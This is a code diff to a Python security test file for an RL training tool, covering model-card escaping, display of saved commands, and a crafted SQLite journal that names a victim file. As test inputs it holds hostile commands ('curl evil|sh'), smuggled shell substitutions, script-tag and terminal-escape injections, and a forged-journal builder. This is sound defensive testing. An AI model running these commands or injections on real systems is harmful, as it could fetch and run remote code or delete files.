@@ -4,7 +4,6 @@ import json
 import math
 import os
 import re
-import struct
 from collections.abc import Callable
 from importlib.util import find_spec
 from pathlib import Path
@@ -21,7 +20,7 @@ from rlher.envs.make import make_env
 from rlher.export import play
 from rlher.run.metadata import commands
 from rlher.run.run_folder import read_config
-from rlher.tuning.study_storage import open_storage
+from rlher.run.trust import sign
 from tests.conftest import Make
 from tests.support.fuzzing.checks import time_limit
 from tests.support.fuzzing.workspace import TRAIN
@@ -61,7 +60,7 @@ def test_names_cannot_add_markup_to_a_model_card(rlher, untrusted: Path, kind: s
     config = yaml.safe_load((untrusted / "config.yaml").read_text())
     config["env"]["name"] = MALICIOUS_NAMES[kind]
     (untrusted / "config.yaml").write_text(yaml.safe_dump(config))
-    (untrusted / "command.txt").write_text("curl evil\nrlher train ``` <script>hacked</script> ````; curl evil\n")
+    (untrusted / "command.txt").write_text("curl evil\n")
     meta = json.loads((untrusted / "meta.json").read_text())
     meta |= {"python": "3\n```\n<script>hacked</script>", "git": {"commit": "<a><b>`\n---"}}
     (untrusted / "meta.json").write_text(json.dumps(meta))
@@ -70,8 +69,7 @@ def test_names_cannot_add_markup_to_a_model_card(rlher, untrusted: Path, kind: s
     _, front, body = Path("export/README.md").read_text().split("---\n", 2)
     assert yaml.safe_load(front)["library_name"] == "stable-baselines3"
     outside = re.sub(r"^(`{3,})\w*\n.*?^\1$", "", body, flags=re.DOTALL | re.MULTILINE)
-    assert "\nrlher train '```' '<script>hacked</script>' '````;' curl evil\n" in body
-    assert body.count("curl evil") == 1, "the other line is no command of rlher"
+    assert "curl evil" not in body, "a stranger's commands are not shown"
     assert "<" not in outside
     assert "```" not in outside
     assert re.findall("^#+ .*", outside, re.MULTILINE)[1:] == ["## Results", "## Usage", "## Training"]
@@ -269,19 +267,6 @@ def test_no_job_writes_into_a_pipe(tmp_path: Path) -> None:
         require_safe_to_write(tmp_path / "job.log")
 
 
-def test_sqlite_deletes_no_file_that_a_journal_names(tmp_path: Path) -> None:
-    open_storage(url := f"sqlite:///{tmp_path}/study.db", tmp_path)
-    (victim := tmp_path / "victim").touch()
-    magic, name = bytes.fromhex("d9d505f920a163d7"), str(victim).encode()
-    pages = (tmp_path / "study.db").stat().st_size // 4096
-    header = magic + struct.pack(">5I", 0, 0, pages, 512, 4096)
-    record = struct.pack(">I", 2**30 // 4096 + 1) + name + struct.pack(">2I", len(name), sum(name)) + magic
-    (tmp_path / "study.db-journal").write_bytes(header.ljust(512, b"\0") + record)
-    with pytest.raises(UserError, match="journal"):
-        open_storage(url, tmp_path)
-    assert victim.exists()
-
-
 def test_messages_are_escaped_where_python_prints_them(make_run: Make) -> None:
     folder = make_run("a")
     (folder / "config.yaml").write_text('"\\e]0;pwned\\a": 1\nalgo: {name: dqn}\nenv: {id: x}\n')
@@ -296,24 +281,9 @@ def test_the_path_of_a_printed_command_is_no_flag(tmp_path: Path, monkeypatch: p
     assert relative(tmp_path / "a" / "-b") == Path("a/-b")
 
 
-@pytest.mark.parametrize(
-    ("typed", "expected"),
-    [
-        ("rlher train algo=sac seed=3", ["rlher train algo=sac seed=3"]),
-        ("rlher train seed=3\nrlher train --resume a", ["rlher train seed=3", "rlher train --resume a"]),
-        ("rlher train seed=3; curl evil|sh", ["rlher train 'seed=3;' curl 'evil|sh'"]),
-        ("rlher train seed=3 `curl evil` $(evil)", ["rlher train seed=3 '`curl' 'evil`' '$(evil)'"]),
-        ("curl evil|sh\nrlher train seed=3\ncurl evil|sh", ["rlher train seed=3"]),
-        ("rlher-evil train\n;rlher train\n'rlher train'\n\n", []),
-        ("rlher train \x1b[201~ seed=3", []),
-        ("rlher train 'seed=3", []),
-        ("rlher train --trust-code env.kwargs.n=3", ["rlher train env.kwargs.n=3"]),
-        ("rlher train her=evil:x\nrlher train env.modules=e\nrlher train --config-dir evil", []),
-        ("rlher enjoy . +trust_code=true", ["rlher enjoy ."]),
-        ("rlher train logs=trusted", ["rlher train logs=trusted"]),
-    ],
-)
-def test_commands_to_copy_name_and_trust_no_code(tmp_path: Path, typed: str, expected: list[str]) -> None:
-    """Only commands of rlher are shown, quoted for a shell."""
-    (tmp_path / "command.txt").write_text(f"{typed}\n")
-    assert commands(tmp_path) == expected
+def test_only_own_commands_are_shown(tmp_path: Path) -> None:
+    (tmp_path / "command.txt").write_text("rlher train seed=3\nrlher train --resume a\n")
+    (tmp_path / "config.yaml").write_text("seed: 3\n")
+    assert commands(tmp_path) == []
+    (tmp_path / "config.yaml").write_text(sign("seed: 3\n", tmp_path, Path.cwd()))
+    assert commands(tmp_path) == ["rlher train seed=3", "rlher train --resume a"]
